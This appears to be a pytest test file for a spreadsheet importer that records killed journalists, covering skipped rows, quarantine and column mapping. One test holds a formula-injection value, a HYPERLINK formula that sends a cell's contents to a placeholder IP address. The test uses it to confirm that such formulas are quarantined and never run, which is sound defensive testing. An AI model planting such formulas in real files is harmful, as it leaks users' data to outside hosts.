"""A monitor gives spreadsheets as people make them."""

import json
import re
from pathlib import Path

import pytest
import xlsxwriter  # type: ignore[import-untyped]

from tests.journeys.bad_files import (
    COLUMNS,
    HEADERS,
    WHOSE,
    entries,
    in_quarantine,
    person,
    text_of,
)
from tests.journeys.terminal import endimpunity, taken_in

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("name", ["list.xlsx", "list.xls"])
def test_titles_totals_and_repeated_headers_are_skipped_and_counted(
    workbook, mapping, before, name
):
    some = entries(30)
    rows = [
        ["Journalists killed, as kept by the desk"],
        [],
        HEADERS,
        *some[:10],
        ["Total", "", "", 10],
        ["2016"],
        HEADERS,
        *some[10:],
        ["Grand total: 30"],
        ["Source: the desk"],
    ]
    facts = taken_in(workbook(rows, name), *WHOSE, "--mapping", mapping)
    # Five of them were in the earlier file.
    assert (facts["imported"], facts["unchanged"]) == (25, 5)
    assert (facts["quarantined"], facts["skipped"]) == (0, 5)
    assert {reason: len(rows) for reason, rows in facts["skipping"].items()} == {
        "total row": 2,
        "section title": 1,
        "repeated header row": 1,
        "note": 1,
    }


def test_a_formula_is_kept_as_text_in_quarantine_and_never_run(write, mapping, before):
    rows = entries()
    rows[3][0] = '=HYPERLINK("http://192.0.2.1/"&A1,"name")'
    path = write(text_of(rows))
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping)
    assert said.status == 0
    assert "formula" in said.sentence
    [found] = in_quarantine(said, [4])
    assert found["cells"]["name"] == rows[3][0]


def test_a_formula_in_a_workbook_is_read_as_what_it_shows(tmp_path, mapping, before):
    path = tmp_path / "list.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    for at, row in enumerate([HEADERS, *entries()]):
        sheet.write_row(at, 0, row)
    sheet.write_formula(4, 2, '=CONCATENATE("Ma","li")', None, "Mali")
    book.close()
    facts = taken_in(path, *WHOSE, "--mapping", mapping)
    assert (facts["quarantined"], facts["country_unknown"]) == (0, 0)


def test_columns_that_shifted_wait_in_quarantine_until_they_are_corrected(
    write, refused, mapping
):
    rows = entries()
    for at in (4, 5, 6):
        rows[at].insert(1, "second name")
    path = write(text_of(rows))
    said = refused(path)
    assert "columns are shifted" in said.sentence
    advice = said.advised(r"--accept-quarantine \d+%")
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping, *advice)
    found = in_quarantine(said, [5, 6, 7])
    right = dict(zip(HEADERS, person(4), strict=True))
    assert found[0]["cells"] != right
    corrections = [f"{header}={text}" for header, text in right.items()]
    corrected = endimpunity(
        *("quarantine", *WHOSE, "--row", 5, "--correct", *corrections),
        *("--reason", "a cell too many"),
    )
    assert corrected.status == 0
    retry = corrected.advised(r"endimpunity quarantine \S+ \S+ \S+ \S+ --retry")
    retried = endimpunity(*retry[1:], "--json")
    assert retried.facts["imported"] == [5]
    assert sorted(retried.facts["left"]) == ["6", "7"]
    in_quarantine(said, [6, 7])


def test_of_two_columns_with_one_header_each_can_be_named(write, before):
    rows = [[*row, f"Native{at}"] for at, row in enumerate(entries())]
    path = write(text_of(rows, (*HEADERS, "name")))
    said = write(COLUMNS + 'name_native = "name#2"', "second.toml")
    facts = taken_in(path, *WHOSE, "--mapping", said)
    assert facts["quarantined"] == 0
    records = endimpunity("records", *WHOSE, "--json").out.splitlines()
    first = json.loads(records[0])
    assert (first["name"], first["name_native"]) == (person(0)[0], "Native0")


def test_a_column_that_is_not_there_is_refused_with_those_that_are(write, refused):
    path = write(text_of(entries(), ("name", "date", "country", "name")))
    said = refused(path)
    assert '"outlet"' in said.sentence
    for header in ("name", "date", "country", "name#2"):
        assert f'"{header}"' in said.sentence


def test_columns_of_no_known_layout_are_refused_with_what_to_write(
    write, refused, before, mapping
):
    path = write(text_of(entries()))
    said = refused(path, "--accept-quarantine", "1%")
    assert "--mapping" in said.sentence
    howto = re.search(r"docs/\S+\.md", said.sentence)
    assert howto
    root = Path(__file__).resolve().parents[2]
    assert (root / howto[0]).is_file()
    assert taken_in(path, *WHOSE, "--mapping", mapping)["rows"] == 40
